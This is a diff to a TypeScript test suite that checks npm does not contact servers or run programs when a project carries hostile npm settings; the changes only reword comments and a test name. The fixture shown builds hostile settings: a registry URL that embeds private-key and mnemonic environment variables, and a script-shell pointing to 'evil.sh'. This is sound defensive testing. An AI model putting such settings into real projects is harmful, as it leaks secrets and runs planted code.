@@ -105,7 +105,7 @@ describe("npmEnvironment", () => {
   });
 });
 
-// Real npm, and a server that records whatever reaches it.
+// Runs the real npm against a server that records every request.
 describe("a project with hostile npm settings", () => {
   const environment = useNpmEnvironment();
   const spec = "@daostack/arc@0.0.1-rc.40";
@@ -138,7 +138,7 @@ describe("a project with hostile npm settings", () => {
     process.env["ANOTHER_SECRET"] = OTHER;
   });
 
-  /** Every setting that could make npm talk to somebody or run something. */
+  /** Returns every setting that could make npm contact a server or run a program. */
   function hostile(evil: string): string {
     const at = `http://${address}/`;
     return `@daostack:registry=${at}\${DAO_MIGRATE_PRIVATE_KEY}/\${DAO_MIGRATE_MNEMONIC}/
@@ -188,7 +188,7 @@ script-shell=${join(evil, "evil.sh")}
     expect((await rejection(readFile(trace))).message).to.include("ENOENT");
   }
 
-  it("sends nothing to anybody and runs nothing", async () => {
+  it("sends nothing and runs nothing", async () => {
     const { projectRoot } = environment();
     await expectSafe(projectRoot, await plant(projectRoot));
   });
